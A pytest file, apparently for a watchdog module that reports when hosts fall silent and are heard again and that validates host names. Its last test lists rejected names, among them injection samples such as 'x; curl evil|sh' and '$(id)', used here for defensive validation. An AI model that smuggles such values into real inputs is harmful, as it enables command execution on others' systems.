"""Stories of hosts and of who listens to them, a look a second."""

import pytest

from services.watchdog.changes import Change
from services.watchdog.silences import MOST_HOSTS, Hosts, TooManyHosts, hear, is_name, look

S = 1_000_000
WITHIN_S = 60


class Receiver:
    def __init__(self) -> None:
        self.second = 1_000
        self.hosts = Hosts()
        self.told: list[Change] = []

    def listens(self, seconds: int, *, to: str = "", every_s: int = 20) -> None:
        for at in range(seconds):
            if to and at % every_s == 0:
                self.hosts = hear(self.hosts, to, self.second * S)
            self.hosts, changes = look(self.hosts, WITHIN_S * S, self.second * S)
            self.told += changes
            self.second += 1

    def kinds(self) -> list[tuple[str, str]]:
        return [(change.part, change.kind) for change in self.told]


def test_a_host_that_is_heard_needs_no_word() -> None:
    receiver = Receiver()
    receiver.listens(600, to="vm1")
    assert receiver.told == []


def test_silence_is_told_once_and_its_end_with_how_long_it_was() -> None:
    receiver = Receiver()
    receiver.listens(100, to="vm1")
    receiver.listens(300)
    receiver.listens(100, to="vm1")
    assert receiver.kinds() == [("vm1", "silent"), ("vm1", "heard")]
    silent, heard = receiver.told
    assert (silent.since_us, silent.at_us) == (1_080 * S, 1_141 * S)
    assert heard.down_us == 320 * S  # from the last sign of life to the next one


def test_who_did_not_listen_does_not_take_that_for_silence() -> None:
    receiver = Receiver()
    receiver.listens(100, to="vm1")
    receiver.second += 3_600
    receiver.listens(19)
    receiver.listens(100, to="vm1")
    assert receiver.told == []


def test_a_clock_that_is_set_back_hides_no_silence() -> None:
    receiver = Receiver()
    receiver.listens(100, to="vm1")
    receiver.second -= 900
    receiver.listens(100, to="vm1")
    receiver.listens(300)
    assert receiver.kinds() == [("vm1", "silent")]


def test_a_receiver_that_is_started_again_still_tells_of_a_host_that_fell_silent_before_and_of_each_once() -> None:
    receiver = Receiver()
    receiver.listens(100, to="vm1")
    for _ in range(3):
        receiver.listens(10)
        receiver.second += 3_600
    receiver.listens(100)
    receiver.second += 3_600
    receiver.listens(100)
    assert receiver.kinds() == [("vm1", "silent")]
    assert receiver.told[0].since_us == 1_080 * S


def test_one_that_is_started_again_and_again_within_seconds_is_no_excuse() -> None:
    receiver = Receiver()
    receiver.listens(100, to="vm1")
    for _ in range(10):
        receiver.listens(1)
        receiver.second += 9
    assert receiver.kinds() == [("vm1", "silent")]


def test_hosts_are_bounded_and_a_new_one_takes_the_place_of_the_longest_silence_that_people_know_of() -> None:
    hosts = Hosts()
    for number in range(MOST_HOSTS):
        hosts = hear(hosts, f"vm{number}", number * S)
    with pytest.raises(TooManyHosts):
        hear(hosts, "new", 300 * S)
    hosts, _ = look(hosts, WITHIN_S * S, 300 * S)
    hosts, changes = look(hosts, WITHIN_S * S, 310 * S)
    assert changes == []
    for second in range(311, 362):
        hosts, changes = look(hosts, WITHIN_S * S, second * S)
    assert len(changes) == MOST_HOSTS
    hosts = hear(hosts, "new", 400 * S)
    assert len(hosts.known) == MOST_HOSTS
    assert "vm0" not in hosts.known
    assert "new" in hosts.known


def test_only_what_can_be_a_name_is_one() -> None:
    assert all(is_name(text) for text in ("vm1", "db-2.seoul_example.org", "x" * 64))
    assert not any(is_name(text) for text in ("", "x; curl evil|sh", "$(id)", "a b", "vm1\n", "서울", "x" * 65))
